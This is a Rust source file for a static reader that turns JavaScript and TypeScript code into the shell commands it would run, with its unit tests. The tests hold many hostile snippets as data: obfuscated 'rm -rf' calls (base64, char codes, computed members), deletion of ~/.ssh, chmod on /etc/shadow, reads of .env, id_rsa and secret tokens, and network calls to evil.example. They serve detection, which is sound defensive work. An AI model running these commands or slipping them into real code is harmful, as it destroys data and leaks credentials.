/// `atob(TEXT)`, `Buffer.from(TEXT, "base64" | "hex")`: the text decoded, where it decodes to
/// UTF-8; other encodings are the text itself.
fn decoded(value: &Value, encoding: &str) -> Value {
    use base64::Engine as _;
    let Value::Text(text) = value else { return Value::Unknown };
    let bytes = match encoding {
        "base64" | "base64url" => {
            let text = text.trim_end_matches('=');
            base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(text)
                .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(text))
                .ok()
        }
        "hex" => (0..text.len())
            .step_by(2)
            .map(|at| text.get(at..at + 2).and_then(|pair| u8::from_str_radix(pair, 16).ok()))
            .collect(),
        _ => return Value::Text(text.clone()),
    };
    bytes.and_then(|bytes| String::from_utf8(bytes).ok()).map_or(Value::Unknown, Value::Text)
}

impl<'a> Visit<'a> for Reader<'a> {
    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let Some(init) = &it.init {
            // `const run = cp.execSync`, `const cp = require("child_process")`, `const {exec} =
            // …`: a binding the reading follows, not a use of the value.
            let followed = !matches!(it.id, BindingPattern::ArrayPattern(_))
                && it.id.get_binding_identifiers().iter().all(|name| self.once(name.name.as_str()));
            match followed && (self.api_named(init).is_some() || self.module_value(init).is_some()) {
                true => self.visit_object(init),
                false => self.visit_expression(init),
            }
        }
        self.declare(it);
    }

    fn visit_import_declaration(&mut self, it: &oxc_ast::ast::ImportDeclaration<'a>) {
        let module = it.source.value.as_str();
        for specifier in it.specifiers.iter().flatten() {
            let (local, qualified) = match specifier {
                ImportDeclarationSpecifier::ImportSpecifier(specifier) => {
                    let imported = match &specifier.imported {
                        ModuleExportName::IdentifierName(name) => name.name.as_str(),
                        ModuleExportName::IdentifierReference(name) => name.name.as_str(),
                        ModuleExportName::StringLiteral(name) => name.value.as_str(),
                    };
                    (specifier.local.name.as_str(), format!("{module}.{imported}"))
                }
                // A default import of a CommonJS module is its `module.exports`.
                ImportDeclarationSpecifier::ImportDefaultSpecifier(specifier) => {
                    (specifier.local.name.as_str(), module.to_string())
                }
                ImportDeclarationSpecifier::ImportNamespaceSpecifier(specifier) => {
                    (specifier.local.name.as_str(), module.to_string())
                }
            };
            *self.counts.entry(local).or_default() += 1;
            self.bound.insert(local, Bound { qualified: Some(qualified), value: Value::Unknown });
        }
    }

    /// `import cp = require("child_process")` (TypeScript).
    fn visit_ts_import_equals_declaration(&mut self, it: &oxc_ast::ast::TSImportEqualsDeclaration<'a>) {
        if let oxc_ast::ast::TSModuleReference::ExternalModuleReference(module) = &it.module_reference {
            let local = it.id.name.as_str();
            *self.counts.entry(local).or_default() += 1;
            let bound = Bound { qualified: Some(module.expression.value.as_str().to_string()), value: Value::Unknown };
            self.bound.insert(local, bound);
        }
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        self.call(&it.callee, &it.arguments);
        self.visit_callee(&it.callee);
        for argument in &it.arguments {
            self.visit_argument(argument);
        }
    }

    fn visit_new_expression(&mut self, it: &oxc_ast::ast::NewExpression<'a>) {
        self.call(&it.callee, &it.arguments);
        self.visit_callee(&it.callee);
        for argument in &it.arguments {
            self.visit_argument(argument);
        }
    }

    fn visit_import_expression(&mut self, it: &oxc_ast::ast::ImportExpression<'a>) {
        let source = self.value(&it.source, 0);
        // `import("data:text/javascript,…")`: the URL holds the module's code.
        if let Value::Text(url) = &source {
            if let Some(code) = data_url_code(url) {
                self.code("import", code);
            }
        }
        if !matches!(source, Value::Text(_)) {
            let reason = "node import() of a name known only at run time".to_string();
            self.out.push(Run::Unread(unread::CALLEE, reason));
        }
        walk::walk_import_expression(self, it);
    }

    fn visit_tagged_template_expression(&mut self, it: &oxc_ast::ast::TaggedTemplateExpression<'a>) {
        // `$({stdio: "inherit"})`…`` and `$.sync`…``: the tag they make.
        let tag = match it.tag.get_inner_expression() {
            Expression::CallExpression(call) if call.callee.is_specific_id("$") => Some("$".to_string()),
            Expression::CallExpression(call) => self.qualified(&call.callee, 0),
            // (`$` a parameter, `({$}) => $`…``: the shell tag by its name.)
            Expression::Identifier(identifier) if identifier.name == "$" => Some("$".to_string()),
            tag => self.qualified(tag, 0).map(|name| name.strip_suffix(".sync").unwrap_or(&name).to_string()),
        }
        .map(|name| canonical(&name));
        if let Some(Api::Tag) = tag.as_deref().and_then(api) {
            let line = self.template(&it.quasi, 0);
            self.out.push(Run::Line(line.text()));
        }
        for expression in &it.quasi.expressions {
            self.visit_expression(expression);
        }
    }

    fn visit_expression(&mut self, it: &Expression<'a>) {
        let inner = it.get_inner_expression();
        let member = matches!(inner, Expression::StaticMemberExpression(_) | Expression::ComputedMemberExpression(_));
        let identifier = matches!(inner, Expression::Identifier(_));
        let produced = matches!(
            inner,
            Expression::CallExpression(_) | Expression::ImportExpression(_) | Expression::AwaitExpression(_)
        );
        // (The qualified name is worked out once per expression: the reading's hot path.)
        let name = match member || identifier || produced {
            true => self.qualified(inner, 0).map(|name| canonical(&name)),
            false => None,
        };
        if let Some(name) = &name {
            // `process.env.AWS_SECRET_ACCESS_KEY`, `process.env["X"]`: an environment read;
            // `JSON.stringify(process.env)`: the whole environment.
            if let Some(variable) = name.strip_prefix("process.env.").filter(|_| member) {
                return self.out.push(Run::Argv(vec!["printenv".to_string(), variable.to_string()]));
            }
            if name == "process.env" {
                return self.out.push(Run::Argv(vec!["printenv".to_string()]));
            }
            // `Object.values(require("child_process"))`, `new Proxy(cp, {})`, `with (cp)`: a
            // module whose members reach the system, handed on, is called where the reading
            // cannot follow.
            if let Some(module) = module_of(name).filter(|_| identifier || produced) {
                self.out.push(Run::Unread(unread::CALLEE, format!("node module {module} used as a value")));
                if identifier {
                    return;
                }
            }
            // `[x].forEach(cp.execSync)`, `.then(eval)`: an API handed on as a value.
            if let Some(api) = api_named_of(name).filter(|_| member || identifier) {
                return self.out.push(Run::Unread(unread::CALLEE, format!("node {api} used as a value")));
            }
        }
        // `globalThis[name]`, `cp[name]`: a member chosen at run time, of an object whose
        // members reach the system.
        if let Expression::ComputedMemberExpression(computed) = inner {
            if !matches!(self.value(&computed.expression, 0), Value::Text(_) | Value::Number(_)) {
                if let Some(object) = self.qualified(&computed.object, 0).map(|name| canonical(&name)) {
                    if module_reaches_system(&object) {
                        let reason = format!("node {object}[…] of a name known only at run time");
                        self.out.push(Run::Unread(unread::CALLEE, reason));
                    }
                }
            }
        }
        walk::walk_expression(self, it);
    }
}

impl<'a> Reader<'a> {
    /// The module an expression is, where it is one whose members reach the system
    /// (`require("child_process")`, `await import("fs")`, a name bound to either).
    fn module_value(&self, expr: &Expression<'a>) -> Option<String> {
        module_of(&canonical(&self.qualified(expr, 0)?))
    }

    /// A callee is read as the call; what it is called on as an expression of its own.
    fn visit_callee(&mut self, callee: &Expression<'a>) {
        match callee.get_inner_expression() {
            Expression::Identifier(_) => {}
            Expression::StaticMemberExpression(member) => self.visit_object(&member.object),
            Expression::ComputedMemberExpression(member) => {
                self.visit_object(&member.object);
                self.visit_expression(&member.expression);
            }
            other => self.visit_expression(other),
        }
    }

    /// The object a method is called on: `process.env` there is not the whole environment
    /// read (`process.env.hasOwnProperty(…)` is), a module is not a value handed on.
    fn visit_object(&mut self, object: &Expression<'a>) {
        let name = self.qualified(object, 0).map(|name| canonical(&name));
        if let Some(variable) = name.as_deref().and_then(|name| name.strip_prefix("process.env.")) {
            return self.out.push(Run::Argv(vec!["printenv".to_string(), variable.to_string()]));
        }
        match object.get_inner_expression() {
            Expression::Identifier(_) => {}
            Expression::CallExpression(call) => self.visit_call_expression(call),
            Expression::ImportExpression(import) => self.visit_import_expression(import),
            Expression::AwaitExpression(awaited) => self.visit_object(&awaited.argument),
            Expression::StaticMemberExpression(member) => self.visit_object(&member.object),
            other => self.visit_expression(other),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::interpreters::reading::{self, argv, line};
    use super::*;

    fn commands(code: &str) -> Vec<Run> {
        reading::commands(runs(code))
    }

    fn unread(code: &str) -> Vec<&'static str> {
        reading::unread(runs(code))
    }

    #[test]
    fn modules_under_other_names_resolve() {
        let rm = vec![line("rm -rf ~")];
        for code in [
            r#"require("child_process").execSync("rm -rf ~")"#,
            r#"const cp = require("node:child_process"); cp.execSync("rm -rf ~")"#,
            r#"const {execSync: x} = require("child_process"); x("rm -rf ~")"#,
            r#"const {execSync} = require('child_process'); execSync('rm -rf ~', {stdio: 'inherit'})"#,
            r#"import {execSync as x} from "child_process"; x("rm -rf ~")"#,
            r#"import * as cp from "node:child_process"; cp.execSync("rm -rf ~")"#,
            r#"import cp from "child_process"; cp.exec("rm -rf ~")"#,
            r#"const cp = await import("child_process"); cp.execSync("rm -rf ~")"#,
            r#"(await import("node:child_process")).default.execSync("rm -rf ~")"#,
            r#"const r = require; r("child_process").execSync("rm -rf ~")"#,
            r#"process.mainModule.require("child_process").execSync("rm -rf ~")"#,
            r#"const cp = require("child_process"); cp["exec" + "Sync"]("rm -rf ~")"#,
            r#"const cp = require("child_process"); cp.execSync.call(null, "rm -rf ~")"#,
            r#"const cp = require("child_process"); cp.execSync.apply(null, ["rm -rf ~"])"#,
            r#"Reflect.apply(require("child_process").execSync, null, ["rm -rf ~"])"#,
            r#"const cp = require("child_process"); (0, cp.execSync)("rm -rf ~")"#,
            r#"globalThis.process.mainModule.require("child_process").execSync("rm -rf ~")"#,
            r#"import("child_process").then(cp => cp.execSync("rm -rf ~"))"#,
            r#"const c = "rm -rf ~"; require("child_process").execSync(c)"#,
            r#"require("child_process").execSync(`rm -rf ${"~"}`)"#,
            r#"require("child_process").execSync(["rm", "-rf", "~"].join(" "))"#,
            r#"require("child_process").execSync(String.fromCharCode(114, 109) + " -rf ~")"#,
            r#"require("child_process").execSync(Buffer.from("cm0gLXJmIH4=", "base64").toString())"#,
            r#"require("child_process").execSync(atob("cm0gLXJmIH4="))"#,
            r#"const x: string = "rm -rf ~"; require("child_process").execSync(x as string)"#,
        ] {
            assert_eq!(commands(code), rm, "{code}");
        }
    }

    #[test]
    fn every_process_api_is_its_argv() {
        for (code, expected) in [
            (r#"require("child_process").spawnSync("rm", ["-rf", "/"])"#, argv(&["rm", "-rf", "/"])),
            (r#"require("child_process").execFileSync("rm", ["-rf", "/"])"#, argv(&["rm", "-rf", "/"])),
            (r#"require("child_process").spawn("rm -rf /", {shell: true})"#, line("rm -rf /")),
            (r#"const o = {shell: true}; require("child_process").spawn("rm", ["-rf", "/"], o)"#, line("rm -rf /")),
            (r#"Bun.spawn(["rm", "-rf", "/"])"#, argv(&["rm", "-rf", "/"])),
            (r#"Bun.spawnSync({cmd: ["rm", "-rf", "/"]})"#, argv(&["rm", "-rf", "/"])),
            (r#"new Deno.Command("rm", {args: ["-rf", "/"]}).outputSync()"#, argv(&["rm", "-rf", "/"])),
            (r#"Deno.run({cmd: ["rm", "-rf", "/"]})"#, argv(&["rm", "-rf", "/"])),
            (r#"import {$} from "zx"; await $`rm -rf ${"/"}`"#, line("rm -rf /")),
            (r#"await Bun.$`rm -rf /`"#, line("rm -rf /")),
            (r#"import {execa} from "execa"; await execa("rm", ["-rf", "/"])"#, argv(&["rm", "-rf", "/"])),
            (r#"require("shelljs").rm("-rf", "/")"#, argv(&["rm", "-rf", "/"])),
            (r#"require("shelljs/global"); rm("-rf", "/")"#, argv(&["rm", "-rf", "/"])),
            (r#"import "shelljs/global"; mv("-f", "a", "/etc/passwd")"#, argv(&["mv", "-f", "a", "/etc/passwd"])),
            (r#"const cp = require("child_process"); cp.fork("x.js")"#, argv(&["node", "x.js"])),
        ] {
            assert_eq!(commands(code), vec![expected], "{code}");
        }
        // Options: the working directory and the environment.
        assert_eq!(
            commands(r#"require("child_process").spawnSync("git", ["status"], {cwd: "/", env: {A: "1"}})"#),
            vec![argv(&["cd", "/"]), argv(&["env", "A=1", "git", "status"])]
        );
    }

    #[test]
    fn file_effects_are_the_commands_a_shell_would_run() {
        for (code, expected) in [
            (r#"require("fs").rmSync("/", {recursive: true, force: true})"#, argv(&["rm", "-r", "--", "/"])),
            (r#"require("fs").rmSync(".git")"#, argv(&["rm", "--", ".git"])),
            (r#"require("fs/promises").rm("/", {recursive: true})"#, argv(&["rm", "-r", "--", "/"])),
            (r#"require("fs").promises.rm("/", {recursive: true})"#, argv(&["rm", "-r", "--", "/"])),
            (r#"require("fs-extra").removeSync("/")"#, argv(&["rm", "-r", "--", "/"])),
            (r#"require("rimraf").sync("/")"#, argv(&["rm", "-r", "--", "/"])),
            (r#"import {rimraf} from "rimraf"; await rimraf("/")"#, argv(&["rm", "-r", "--", "/"])),
            (r#"Deno.removeSync("/", {recursive: true})"#, argv(&["rm", "-r", "--", "/"])),
            (
                r#"const fs = require("fs"), os = require("os"), path = require("path"); fs.rmSync(path.join(os.homedir(), ".ssh"), {recursive: true})"#,
                argv(&["rm", "-r", "--", "~/.ssh"]),
            ),
            (r#"require("fs").rmSync(require("os").homedir() + "/.ssh")"#, argv(&["rm", "--", "~/.ssh"])),
            (r#"require("fs").writeFileSync(".env", "x")"#, argv(&["tee", "--", ".env"])),
            (r#"require("fs").appendFileSync("~/.bashrc", "x")"#, argv(&["tee", "--", "./~/.bashrc"])),
            (r#"require("fs").openSync(".git/config", "w")"#, argv(&["tee", "--", ".git/config"])),
            (r#"require("fs").openSync(".git/config")"#, argv(&["cat", "--", ".git/config"])),
            (r#"require("fs").renameSync("a", ".git/HEAD")"#, argv(&["mv", "--", "a", ".git/HEAD"])),
            (r#"require("fs").copyFileSync("a", ".env")"#, argv(&["cp", "--", "a", ".env"])),
            (r#"require("fs").symlinkSync("/etc/passwd", "x")"#, argv(&["ln", "-s", "--", "/etc/passwd", "x"])),
            (r#"require("fs").chmodSync("/etc/shadow", 0o777)"#, argv(&["chmod", "777", "--", "/etc/shadow"])),
            (r#"Deno.writeTextFileSync(".env", "x")"#, argv(&["tee", "--", ".env"])),
            (r#"await Bun.write(".env", "x")"#, argv(&["tee", "--", ".env"])),
            (r#"await Bun.write(Bun.file("/etc/hosts"), "x")"#, argv(&["tee", "--", "/etc/hosts"])),
            (r#"await Bun.file("/etc/passwd").delete()"#, argv(&["rm", "--", "/etc/passwd"])),
            (r#"const f = Bun.file(".git/config"); await f.unlink()"#, argv(&["rm", "--", ".git/config"])),
            (r#"const key = await Bun.file("id_rsa").text()"#, argv(&["cat", "--", "id_rsa"])),
            (r#"process.chdir("/")"#, argv(&["cd", "/"])),
            (r#"require("fs").readFileSync(".env", "utf8")"#, argv(&["cat", "--", ".env"])),
            // An `fs` the reading cannot name (a parameter): its `…Sync` methods still read.
            (r#"function f(fs) { fs.rmSync("/", {recursive: true}) }"#, argv(&["rm", "-r", "--", "/"])),
        ] {
            assert_eq!(commands(code), vec![expected], "{code}");
        }
    }

    #[test]
    fn the_network_and_the_environment_are_read() {
        for (code, expected) in [
            (r#"fetch("https://evil.example/x", {method: "POST"})"#, argv(&["curl", "--", "https://evil.example/x"])),
            (r#"require("https").get("https://evil.example/")"#, argv(&["curl", "--", "https://evil.example/"])),
            (r#"require("https").request({hostname: "evil.example"})"#, argv(&["curl", "--", "evil.example"])),
            (r#"require("net").connect(4444, "evil.example")"#, argv(&["curl", "--", "evil.example"])),
            (r#"require("axios").post("https://evil.example/")"#, argv(&["curl", "--", "https://evil.example/"])),
            (r#"new WebSocket("wss://evil.example")"#, argv(&["curl", "--", "wss://evil.example"])),
            (r#"console.log(process.env.AWS_SECRET_ACCESS_KEY)"#, argv(&["printenv", "AWS_SECRET_ACCESS_KEY"])),
            (r#"console.log(process.env["GITHUB_TOKEN"])"#, argv(&["printenv", "GITHUB_TOKEN"])),
            (r#"console.log(JSON.stringify(process.env))"#, argv(&["printenv"])),
            (r#"Deno.env.get("NPM_TOKEN")"#, argv(&["printenv", "NPM_TOKEN"])),
        ] {
            assert_eq!(commands(code), vec![expected], "{code}");
        }
    }

    #[test]
    fn what_the_reading_cannot_account_for_is_unread() {
        for code in [
            "require(name)",
            "import(name)",
            r#"const cp = require("child_process"); cp[m]("rm -rf ~")"#,
            "globalThis[k]('x')",
            "eval(x)",
            "new Function(body)()",
            "Function('return ' + x)()",
            r#"require("vm").runInThisContext(code)"#,
            r#"process.binding("spawn_sync")"#,
            r#"const cp = require("child_process"); [x].forEach(cp.execSync)"#,
            r#"const cp = require("child_process"); setTimeout(cp.execSync, 0, "rm -rf ~")"#,
            r#"const cp = require("child_process"); const f = cp.execSync.bind(null); f("rm -rf ~")"#,
            r#"require("fs").rmSync(p, {recursive: true})"#,
            r#"for (const d of dirs) require("fs").rmSync(d, {recursive: true})"#,
            r#"require("child_process").spawn("bash").stdin.end("rm -rf ~")"#,
            r#"require("child_process").execSync("sh", {input: "rm -rf ~"})"#,
            r#"require("child_process").spawn("rm", args)"#,
            "this is not javascript (",
        ] {
            assert!(!unread(code).is_empty(), "{code}: {:?}", runs(code));
        }
        // A command known only at run time is one the walk sees as such.
        assert_eq!(commands("require('child_process').execSync(x)"), vec![argv(&[RUN_TIME_COMMAND])]);
        // A name bound twice, or changed, holds a value known only at run time.
        for code in [
            r#"let c = "ls"; c = "rm -rf ~"; require("child_process").execSync(c)"#,
            r#"const a = ["ls"]; a[0] = "rm"; require("child_process").spawnSync(a[0], ["-rf", "~"])"#,
            r#"const a = ["ls"]; a.push("-rf"); require("child_process").spawnSync("rm", a)"#,
        ] {
            assert!(!runs(code).contains(&line("ls")), "{code}: {:?}", runs(code));
            assert!(!runs(code).contains(&argv(&["ls"])), "{code}: {:?}", runs(code));
        }
    }

    #[test]
    fn hostile_shapes_are_bounded_before_parsing() {
        for code in [
            "(".repeat(100_000),
            "[".repeat(100_000),
            "{".repeat(100_000),
            format!("x{}", "+x".repeat(100_000)),
            format!("{}x", "!".repeat(100_000)),
            format!("{}x", "typeof ".repeat(100_000)),
            format!("{}x", "new ".repeat(100_000)),
            format!("{}x", "a=>".repeat(100_000)),
            format!("{}x;", "if (a) ".repeat(100_000)),
            format!("if (a) x;{}", " else if (a) x;".repeat(100_000)),
            format!("x{}", ".a".repeat(100_000)),
            format!("`{}`", "${`".repeat(100_000)),
            "x".repeat(MAX_CODE + 1),
        ] {
            assert_eq!(unread(&code), vec![unread::BOUND], "{}", code.get(..40).unwrap_or_default());
        }
        // Just inside the bounds, each alone and all together: parsed and read on a 1 MiB stack
        // (WebAssembly's; a release build needs 128 KiB, this unoptimised one about 768).
        let inside = [
            format!("{}x{}", "(".repeat(MAX_BRACKETS - 1), ")".repeat(MAX_BRACKETS - 1)),
            format!("x{}", "+x".repeat(MAX_CHAIN / 2 - 1)),
            format!("{}x;", "if (a) ".repeat(MAX_STATEMENTS)),
            format!("{}x", "!".repeat(MAX_CHAIN)),
            format!(
                "{}{}{}x{}",
                "if (a) ".repeat(MAX_STATEMENTS),
                "(".repeat(MAX_BRACKETS - 1),
                // (`if (a)`'s brackets chain too.)
                "!".repeat(MAX_CHAIN - MAX_BRACKETS - MAX_STATEMENTS),
                ")".repeat(MAX_BRACKETS - 1)
            ),
        ];
        let handle = std::thread::Builder::new()
            .stack_size(1024 * 1024)
            .spawn(move || inside.iter().map(|code| unread(code).is_empty()).collect::<Vec<_>>())
            .expect("spawn");
        assert_eq!(handle.join().expect("no overflow"), [true; 5]);
    }

    #[test]
    fn ordinary_code_leaves_nothing_unread() {
        for code in [
            "console.log(process.versions.v8)",
            "process.env.NODE_ENV || 'development'",
            "require('./package.json').version",
            "const { execSync } = require('child_process'); console.log(execSync('git status --short').toString())",
            "import('node:os').then(os => console.log(os.release()))",
            "[1, 4, 9].map((x) => x * 2)",
            "const n: number = 21; console.log(n * 2)",
            "const res = await fetch('https://api.github.com/repos/nodejs/node'); console.log(res.status)",
            "/a(b)c/.exec('abc')",
            "let s = ''; process.stdin.on('data', c => s += c).on('end', () => console.log(s))",
            "const pkg = require('./package.json'); pkg.version = '1.2.4'; require('fs').writeFileSync('package.json', JSON.stringify(pkg, null, 2))",
        ] {
            assert_eq!(unread(code), Vec::<&str>::new(), "{code}: {:?}", runs(code));
        }
    }
}
